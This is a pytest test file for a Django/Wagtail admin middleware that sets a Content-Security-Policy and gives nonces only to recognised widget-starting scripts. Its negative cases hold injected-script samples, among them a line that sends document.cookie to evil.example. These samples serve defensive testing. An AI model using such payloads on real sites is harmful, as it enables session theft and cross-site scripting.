"""The admin's Content-Security-Policy lets Wagtail's own widgets start, and nothing that was smuggled in."""

import re

import pytest
from django.http import HttpResponse
from django.test import RequestFactory
from django.urls import reverse

from core.admin_policy import AdminPolicyMiddleware, starts_a_widget
from home.models import HomePage
from tests.factories.people import UserFactory, sign_in

pytestmark = pytest.mark.django_db


def policy_of(response) -> dict[str, list[str]]:
    """Return the policy of an answer by directive."""
    parts = [part.split() for part in response["Content-Security-Policy"].split(";")]
    return {name: sources for name, *sources in parts}


@pytest.fixture
def admin(client):
    sign_in(client, UserFactory(is_superuser=True))
    return client


@pytest.mark.parametrize(
    "script",
    [
        r'initDateChooser("id_go\u002Dlive", {"format": "Y-m-d", "dayOfWeekStart": 1});',
        'new PageChooser("id_page", {"modalUrl": "/admin/choose-page/", "canChooseRoot": false});',
        'createTaskChooser("id_task");',
        '\n(function() {\n    var panel = new InlinePanel(JSON.parse("\\u007B\\u007D"));\n})();\n',
    ],
)
def test_a_widget_starts(script):
    assert starts_a_widget(script)


@pytest.mark.parametrize(
    "script",
    [
        "alert(1)",
        'initDateChooser("id_x", alert(1));',
        'initDateChooser("id_x", {}); alert(1);',
        'initDateChooser("id_x", {}); alert("x");',
        'initDateChooser("id_x", {"a": "b"}); fetch("//evil.example/?" + document.cookie); f("");',
        'new Function("alert(1)")();',
        'new PageChooser("id", {"a": (alert(1), 2)});',
        '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
        '(function() { var panel = new InlinePanel(JSON.parse("{}" + alert(1))); })();',
    ],
)
def test_code_is_no_start_of_a_widget(script):
    assert not starts_a_widget(script)


def test_every_answer_of_the_admin_has_the_policy(admin, client):
    for address in ("/admin/", "/admin/no-such-screen/", "/admin/pages/", "/admin/login/"):
        policy = policy_of(admin.get(address))
        assert policy["script-src"][0] == "'self'"
        assert not {"'unsafe-inline'", "'unsafe-eval'", "*"} & set(policy["script-src"])
        assert policy["object-src"] == policy["base-uri"] == ["'none'"]
        assert policy["frame-ancestors"] == policy["form-action"] == policy["frame-src"] == ["'self'"]


def test_the_widgets_of_the_editor_have_the_nonce_of_the_answer_and_no_other_script_has_it(admin):
    edit = reverse("wagtailadmin_pages:edit", args=[HomePage.objects.get().pk])

    answers = [admin.get(edit) for _ in range(2)]

    nonces = []
    for answer in answers:
        (nonce,) = set(re.findall(r'<script nonce="([^"]+)">', answer.content.decode()))
        assert policy_of(answer)["script-src"] == ["'self'", f"'nonce-{nonce}'"]
        scripts = re.findall(r"<script nonce=[^>]*>(.*?)</script>", answer.content.decode(), re.DOTALL)
        assert all(map(starts_a_widget, scripts))
        assert not re.search(r"<script>", answer.content.decode())
        nonces.append(nonce)
    assert nonces[0] != nonces[1]


def test_a_script_that_got_into_a_page_unescaped_has_no_nonce():
    page = '<script>initDateChooser("id_x", {});</script><h1><script>alert(1)</script></h1>'
    answer = AdminPolicyMiddleware(lambda request: HttpResponse(page))(RequestFactory().get("/admin/"))

    assert "<h1><script>alert(1)</script></h1>" in answer.content.decode()
    assert answer.content.decode().startswith('<script nonce="')


def test_a_preview_keeps_the_policy_of_the_public_pages(admin):
    page = HomePage.objects.get()

    preview = admin.get(reverse("wagtailadmin_pages:view_draft", args=[page.pk]))

    assert preview.status_code == 200
    assert policy_of(preview)["style-src"] == ["'self'"]
    assert "https://www.youtube-nocookie.com" in policy_of(preview)["frame-src"]


def test_public_pages_are_left_as_they_are(client):
    assert "unsafe-inline" not in client.get("/")["Content-Security-Policy"]
